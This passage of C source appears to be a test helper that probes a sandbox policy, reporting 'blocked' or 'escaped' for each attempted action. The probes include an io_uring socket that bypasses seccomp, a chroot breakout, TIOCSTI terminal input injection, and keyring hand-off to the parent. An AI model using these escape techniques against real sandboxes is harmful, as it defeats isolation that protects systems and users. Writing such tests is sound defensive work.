	sq_tail = (unsigned *)(sq_ring + p.sq_off.tail);
	sq_array = (unsigned *)(sq_ring + p.sq_off.array);
	cq_head = (unsigned *)(cq_ring + p.cq_off.head);

	sqes[0] = *sqe;
	sq_array[*sq_tail & *(unsigned *)(sq_ring + p.sq_off.ring_mask)] = 0;
	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return INT_MIN;
	cqe = (struct io_uring_cqe *)(cq_ring + p.cq_off.cqes) +
	      (__atomic_load_n(cq_head, __ATOMIC_ACQUIRE) &
	       *(unsigned *)(cq_ring + p.cq_off.ring_mask));
	res = cqe->res;
	close(ring);
	return res;
}

/* IORING_OP_OPENAT(O_WRONLY|O_CREAT), then write. */
static int do_io_uring_write(const char *path)
{
	struct io_uring_sqe sqe;
	int res;

	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.len = 0644;
	sqe.open_flags = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC;
	res = io_uring_run_one(&sqe);
	if (res == INT_MIN)
		return blocked();
	if (res < 0)
		return blocked_with(-res);
	return write_marker(res);
}

/* The MPTCP socket made by IORING_OP_SOCKET, which seccomp never sees,
 * then connect(2): what a filter on socket() alone would let through. */
static int do_io_uring_mptcp_connect(const char *port)
{
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct io_uring_sqe sqe;
	int fd;

	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SOCKET;
	sqe.fd = AF_INET;
	sqe.off = SOCK_STREAM;
	sqe.len = IPPROTO_MPTCP;
	fd = io_uring_run_one(&sqe);
	if (fd == INT_MIN)
		return blocked();
	if (fd < 0)
		return blocked_with(-fd);
	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0)
		return blocked();
	close(fd);
	return escaped(NULL);
}

static int do_mount_bind(const char *src, const char *dst, const char *file)
{
	char path[4096];

	if (unshare(CLONE_NEWNS) < 0)
		return blocked();
	/* Keep the bind mount out of the parent's namespace. */
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		return blocked();
	if (mount(src, dst, NULL, MS_BIND, NULL) < 0)
		return blocked();
	snprintf(path, sizeof(path), "%s/%s", dst, file);
	return do_write(path);
}

static int do_chroot_write(const char *dir, const char *path)
{
	int i;

	if (chroot(dir) < 0)
		return blocked();
	/* The cwd stayed outside the new root: walking up from it reaches the
	 * real root, which becomes the root again. */
	for (i = 0; i < 64; i++) {
		if (chdir("..") < 0)
			return blocked();
	}
	if (chroot(".") < 0)
		return blocked();
	return do_write(path);
}

static int do_suid_check(void)
{
	char detail[32];

	if (geteuid() == getuid())
		return blocked_with(EPERM);
	snprintf(detail, sizeof(detail), "euid %u", (unsigned)geteuid());
	return escaped(detail);
}

/* Run as a non-root user from a copy carrying file capabilities: any
 * effective capability means the exec granted some. */
static int do_caps_check(void)
{
	struct __user_cap_header_struct hdr = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct data[2];
	char detail[64];

	if (syscall(__NR_capget, &hdr, data) < 0)
		return blocked();
	if (!data[0].effective && !data[1].effective)
		return blocked_with(EPERM);
	snprintf(detail, sizeof(detail), "uid %u caps %08x%08x", (unsigned)getuid(),
		 data[1].effective, data[0].effective);
	return escaped(detail);
}

/* prctl, not /proc/self/status: the policy need not grant /proc. */
static int print_prctl(int option)
{
	int v = prctl(option, 0, 0, 0, 0);

	if (v < 0)
		return blocked();
	printf("%d\n", v);
	return 0;
}

static int do_keyctl_to_parent(void)
{
	if (syscall(__NR_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0)
		return blocked();
	if (syscall(__NR_keyctl, KEYCTL_SESSION_TO_PARENT) < 0)
		return blocked();
	return escaped(NULL);
}

static int do_tiocsti(void)
{
	char c = '#';

	if (ioctl(STDIN_FILENO, TIOCSTI, &c) < 0)
		return blocked();
	return escaped(NULL);
}

/* The command's stdout is the pty; its verdict line is for the terminal,
 * ours (on our stdout) is what the test reads. */
static int do_pty_run(char **cmd)
{
	int master, slave, status, queued = 0;
	struct termios tio;
	char *name;
	pid_t pid;

	master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 || !(name = ptsname(master)))
		return blocked();
	slave = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (slave < 0)
		return blocked();
	/* Raw mode: in canonical mode FIONREAD would count only whole lines. */
	if (tcgetattr(slave, &tio) < 0)
		return blocked();
	cfmakeraw(&tio);
	if (tcsetattr(slave, TCSANOW, &tio) < 0)
		return blocked();
	pid = fork();
	if (pid < 0)
		return blocked();
	if (pid == 0) {
		setsid();
		if (ioctl(slave, TIOCSCTTY, 0) < 0 || dup2(slave, 0) < 0 || dup2(slave, 1) < 0 ||
		    dup2(slave, 2) < 0)
			_exit(127);
		execvp(cmd[0], cmd);
		_exit(127);
	}
	if (waitpid(pid, &status, 0) < 0)
		return blocked();
	/* Injected bytes wait in the slave side's input queue. */
	if (ioctl(slave, FIONREAD, &queued) < 0)
		return blocked();
	if (queued > 0)
		return escaped("input injected");
	printf("blocked none\n");
	return EXIT_BLOCKED;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
#define IS(name, nargs) (strcmp(cmd, name) == 0 && argc == 2 + (nargs))
	if (IS("write", 1))
		return do_write(argv[2]);
	if (IS("write-fd", 1))
		return do_write_fd(argv[2]);
	if (IS("read", 1))
		return do_read(argv[2]);
	if (IS("symlink-write", 2))
		return do_symlink_write(argv[2], argv[3]);
	if (IS("hardlink-write", 2))
		return do_hardlink_write(argv[2], argv[3]);
	if (IS("rename", 2))
		return do_rename(argv[2], argv[3]);
	if (IS("reopen-write", 1))
		return do_reopen_write(argv[2]);
	if (IS("opath-reopen-write", 1))
		return do_opath_reopen_write(argv[2]);
	if (IS("handle-write", 2))
		return do_handle_write(argv[2], argv[3]);
	if (IS("chmod", 1) || IS("chown", 1) || IS("utime", 1) || IS("setxattr", 1))
		return do_metadata(cmd, argv[2]);
	if (IS("ptrace", 1))
		return do_ptrace(argv[2]);
	if (IS("proc-mem", 1))
		return do_proc_mem(argv[2]);
	if (IS("kill", 1))
		return do_kill(argv[2]);
	if (IS("stop", 1))
		return do_stop(argv[2]);
	if (IS("proc-fd-read", 2))
		return do_proc_fd_read(argv[2], argv[3]);
	if (IS("proc-fd-write", 2))
		return do_proc_fd_write(argv[2], argv[3]);
	if (IS("getfd-read", 2))
		return do_getfd_read(argv[2], argv[3]);
	if (IS("getfd-write", 2))
		return do_getfd_write(argv[2], argv[3]);
	if (IS("pidfile-sleep", 2))
		return do_pidfile_sleep(argv[2], argv[3]);
	if (IS("daemon", 1))
		return do_daemon(argv[2], 0);
	if (IS("daemon", 2) && strcmp(argv[3], "stay") == 0)
		return do_daemon(argv[2], 1);
	if (IS("abstract-connect", 1))
		return do_unix_connect(argv[2], 1);
	if (IS("unix-connect", 1))
		return do_unix_connect(argv[2], 0);
	if (IS("unix-listen", 2))
		return do_unix_listen(argv[2], argv[3]);
	if (IS("unix-dgram-listen", 2))
		return do_unix_dgram_listen(argv[2], argv[3]);
	if (IS("unix-dgram-sendto", 1))
		return do_unix_dgram_send(argv[2], 0);
	if (IS("unix-dgram-reconnect", 1))
		return do_unix_dgram_send(argv[2], 1);
	if (IS("netlink-listen", 2))
		return do_netlink_listen(argv[2], argv[3]);
	if (IS("netlink-send", 1))
		return do_netlink_send(argv[2]);
	if (IS("repoint", 2))
		return do_repoint(argv[2], argv[3]);
	if (IS("tcp-connect", 1))
		return do_inet(argv[2], SOCK_STREAM, IPPROTO_TCP, 0, 0);
	if (IS("mptcp-connect", 1))
		return do_inet(argv[2], SOCK_STREAM, IPPROTO_MPTCP, 0, 0);
	if (IS("udp-echo", 2))
		return udp_echo(argv[2], argv[3]);
	if (IS("udp-send", 2))
		return do_udp_send(argv[2], argv[3], 0);
	if (IS("udp-send-fd", 1))
		return udp_roundtrip(atoi(argv[2]), "xy", 2, NULL, 0);
	if (IS("dns-query", 2))
		return do_udp_send(argv[2], argv[3], 1);
	if (IS("raw-icmp", 0))
		return do_raw_icmp();
	if (IS("listen-unbound", 0))
		return do_listen_unbound();
	if (strcmp(cmd, "connect-back") == 0 && argc > 2)
		return do_connect_back(argv + 2);
	if (IS("tcp-bind", 1))
		return do_inet(argv[2], SOCK_STREAM, IPPROTO_TCP, 0, 1);
	if (IS("mptcp-bind", 1))
		return do_inet(argv[2], SOCK_STREAM, IPPROTO_MPTCP, 0, 1);
	if (IS("tcp-fastopen", 1))
		return do_inet(argv[2], SOCK_STREAM, IPPROTO_TCP, 1, 0);
	if (IS("raw-socket", 0))
		return do_raw_socket();
	if (IS("io-uring-write", 1))
		return do_io_uring_write(argv[2]);
	if (IS("io-uring-mptcp-connect", 1))
		return do_io_uring_mptcp_connect(argv[2]);
	if (IS("mount-bind", 3))
		return do_mount_bind(argv[2], argv[3], argv[4]);
	if (IS("chroot-write", 2))
		return do_chroot_write(argv[2], argv[3]);
	if (IS("suid-check", 0))
		return do_suid_check();
	if (IS("caps-check", 0))
		return do_caps_check();
	if (IS("nnp", 0))
		return print_prctl(PR_GET_NO_NEW_PRIVS);
	if (IS("seccomp", 0))
		return print_prctl(PR_GET_SECCOMP);
	if (IS("keyctl-to-parent", 0))
		return do_keyctl_to_parent();
	if (IS("tiocsti", 0))
		return do_tiocsti();
	if (strcmp(cmd, "pty-run") == 0 && argc > 2)
		return do_pty_run(argv + 2);
#undef IS
	return usage();
}
